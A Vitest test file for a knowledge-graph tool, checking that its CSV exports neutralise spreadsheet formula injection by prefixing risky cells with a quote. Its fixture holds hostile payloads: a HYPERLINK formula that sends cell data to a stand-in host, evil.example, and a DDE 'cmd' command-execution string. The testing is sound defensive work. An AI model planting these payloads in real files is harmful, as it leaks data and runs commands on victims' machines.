// CSV exports neutralise spreadsheet formulas: a label an article put in the graph, such as
// `=HYPERLINK(…)` or `@SUM(…)`, leaves the API and the CLI as text a spreadsheet will not run.
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCli } from "../../src/cli/main.ts";
import { toGraphFile } from "../../src/graph/graph-file.ts";
import { parseCsv } from "../../src/io/csv.ts";
import { importFile } from "../../src/io/import.ts";
import { createKgGraph } from "../../src/model/graph.ts";
import { edgeKey } from "../../src/model/ids.ts";
import { startTestServer, type TestServer } from "./_harness.ts";

/** Names that a spreadsheet would run as formulas, each with the character that starts it. */
const HOSTILE: [string, string][] = [
  ["equals", '=HYPERLINK("http://evil.example/?x="&A1,"click")'],
  ["plus", "+1+cmd|' /C calc'!A0"],
  ["minus", "-2+3"],
  ["at", "@SUM(1,2)"],
  ["tab", "\t=1+1"],
  ["carriage return", "\r=1+1"],
];

const root = mkdtempSync(join(tmpdir(), "kg-csv-"));
const dataDir = join(root, "graph-data");

function hostileGraph() {
  const graph = createKgGraph();
  graph.addNode("russia", { name: "Russia", type: "Country", aliases: [], mentions: 1, docs: ["a.txt"] });
  for (const [i, [, name]] of HOSTILE.entries()) {
    const id = `hostile-${i}`;
    graph.addNode(id, { name, type: "Person", aliases: [name], mentions: 1, docs: ["a.txt"] });
    const sentence = `${name} met Russia.`;
    graph.addEdgeWithKey(edgeKey(id, "meets", "russia"), id, "russia", {
      relation: "meets",
      evidence: [
        {
          doc: "a.txt",
          sentence,
          start: 0,
          end: sentence.length,
          trigger: "met",
          rule: "test",
          modality: "asserted",
        },
      ],
      weight: 1,
      docs: 1,
      firstSeen: null,
      lastSeen: null,
    });
  }
  return graph;
}

/** The name column of a nodes table, by node id. */
function namesById(csv: string): Map<string, string> {
  const [header, ...rows] = parseCsv(csv);
  const id = header!.indexOf("id");
  const name = header!.indexOf("name");
  return new Map(rows.map((r) => [r[id]!, r[name]!]));
}

/** True when a cell would start a formula in a spreadsheet. */
const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

let server: TestServer;
beforeAll(async () => {
  mkdirSync(dataDir);
  writeFileSync(
    join(dataDir, "graph.kg.json"),
    JSON.stringify(toGraphFile(hostileGraph(), [], "2025-01-01T00:00:00Z")),
  );
  server = await startTestServer({ dataDir });
});
afterAll(async () => {
  await server?.close();
  rmSync(root, { recursive: true, force: true });
});

describe("CSV formula injection", () => {
  it("the API's nodes table prefixes every formula-like cell with a quote, keeping the text", async () => {
    const res = await server.get("/api/export.nodes.csv");
    expect(res.status).toBe(200);
    const names = namesById(res.text);
    for (const [i, [label, name]] of HOSTILE.entries()) {
      const cell = names.get(`hostile-${i}`);
      expect(cell, label).toBe(`'${name}`);
      expect(isFormula(cell!), label).toBe(false);
    }
    expect(names.get("russia")).toBe("Russia");
  });

  it("the API's edges table has no cell a spreadsheet would run", async () => {
    const res = await server.get("/api/export.edges.csv");
    expect(res.status).toBe(200);
    const [, ...rows] = parseCsv(res.text);
    expect(rows).toHaveLength(HOSTILE.length);
    for (const row of rows) for (const cell of row) expect(isFormula(cell), cell).toBe(false);
    expect(res.text).toContain(`'${HOSTILE[0]![1].replace(/"/g, '""')} met Russia.`);
  });

  it("kg export --format csv writes the same neutralised cells to both files", async () => {
    const out = join(root, "out.csv");
    const result = await runCli(["export", "--format", "csv", "--out", out, "--data", dataDir], {
      out: { write: () => true },
      err: { write: () => true },
      cwd: root,
      env: {},
    });
    expect(result).toBe(0);
    const names = namesById(readFileSync(join(root, "out.nodes.csv"), "utf8"));
    for (const [i, [label, name]] of HOSTILE.entries())
      expect(names.get(`hostile-${i}`), label).toBe(`'${name}`);
    const [, ...edgeRows] = parseCsv(readFileSync(join(root, "out.edges.csv"), "utf8"));
    for (const row of edgeRows) for (const cell of row) expect(isFormula(cell), cell).toBe(false);
  });

  it("kg import of its own CSV export gives the original names back", async () => {
    const text = readFileSync(join(root, "out.nodes.csv"), "utf8");
    expect(text).toContain("'@SUM");
    const imported = await importFile(join(root, "out.nodes.csv"));
    for (const [i, [label, name]] of HOSTILE.entries())
      expect(imported.graph.getNodeAttribute(`hostile-${i}`, "name"), label).toBe(name);
  });
});
